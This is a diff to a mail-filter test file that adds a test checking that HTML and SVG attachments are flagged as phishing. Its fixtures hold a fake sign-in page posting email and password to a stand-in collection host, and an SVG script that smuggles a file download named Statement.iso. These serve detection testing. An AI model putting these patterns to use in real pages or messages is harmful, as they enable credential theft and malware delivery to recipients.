@@ -1,6 +1,7 @@
-"""Archive attachments other than ZIP over SMTP: RAR, 7z, tar and gzip are
-listed from their own directories (docs/content.md, "Archives"), and Office
-documents are checked for macros.  The 7z archives are made by 7-Zip
+"""Attachments looked into, over SMTP: RAR, 7z, tar and gzip archives are
+listed from their own directories and archives inside archives opened
+(docs/content.md, "Archives"), Office documents are checked for macros and
+web pages for what they would do when opened.  The 7z archives are made by 7-Zip
 itself, tar, gzip and ZIP by Python's tarfile, gzip and zipfile, RAR by
 rarbuild.py and OLE files by olebuild.py (both checked here against
 independent readers: libarchive's bsdtar, python3-olefile)."""
@@ -213,3 +214,36 @@ def test_archives_inside_archives(make_server, sink):
     assert got["deep"].header("X-Mailward-Spam") == "yes"
     rec, sy = verdict(srv, refs["docs"])
     assert rec["class"] == "clean" and not {"EXE_ATTACHMENT", "ARCHIVE_UNSCANNABLE"} & set(sy), rec
+
+
+def test_html_attachments(make_server, sink):
+    """A login page and a smuggling page sent as .htm/.svg files are named
+    HTML_ATTACHMENT_PHISH in the log and the delivered symbols (the tenant's
+    thresholds are high so that all three are delivered); an HTML receipt
+    is not."""
+    padding = "<p>&nbsp;</p>" * 300            # the form comes after the first KiB
+    cases = {
+        "login": ("Remittance_0042.htm", (
+            "<!DOCTYPE html><html><head><title>Sign in</title></head><body>" + padding +
+            '<form method="post" action="https://collect.example.net/p.php">'
+            '<input type="email" name="u"><input type="password" name="p">'
+            "</form></body></html>").encode()),
+        "smuggle": ("Statement.svg", (
+            '<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA['
+            "var d=atob('TVqQAA==');var b=new Blob([d]);var a=document.createElement('a');"
+            "a.href=URL.createObjectURL(b);a.download='Statement.iso';a.click();"
+            "]]></script></svg>").encode()),
+        "receipt": ("receipt.html", b"<html><body><h1>Receipt</h1><table><tr><td>Total</td>"
+                                    b"<td>12.00 EUR</td></tr></table></body></html>"),
+    }
+    srv = make_server(sink=sink)
+    srv.cli("tenant", "set", "acme", "tag=80", "probable_spam=90")   # delivered, to be read
+    refs, got = send_all(srv, sink, cases, "text/html")
+    _, sy = verdict(srv, refs["login"])
+    assert '"Remittance_0042.htm" is a web page that asks for a password' in sy.get(
+        "HTML_ATTACHMENT_PHISH", ""), sy
+    assert "HTML_ATTACHMENT_PHISH" in got["login"].header("X-Mailward-Symbols")
+    _, sy = verdict(srv, refs["smuggle"])
+    assert "assembles a file to download" in sy.get("HTML_ATTACHMENT_PHISH", ""), sy
+    _, sy = verdict(srv, refs["receipt"])
+    assert "HTML_ATTACHMENT_PHISH" not in sy, sy
